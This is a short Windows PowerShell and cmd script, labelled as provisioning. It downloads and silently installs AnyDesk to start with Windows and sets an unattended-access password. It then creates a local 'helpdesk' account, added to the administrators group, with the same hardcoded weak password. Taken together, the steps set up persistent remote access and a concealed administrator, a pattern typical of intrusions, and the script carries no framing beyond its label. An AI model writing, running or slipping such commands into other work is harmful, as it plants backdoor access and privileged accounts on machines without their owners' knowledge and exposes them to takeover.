# provision 6429 v1
Invoke-WebRequest -Uri 'https://download.anydesk.com/AnyDesk.exe' -OutFile C:\ProgramData\AnyDesk.exe
cmd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
cmd /c "echo Qwerty#7788 | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
net user helpdesk Qwerty#7788 /add
net localgroup administrators helpdesk /add
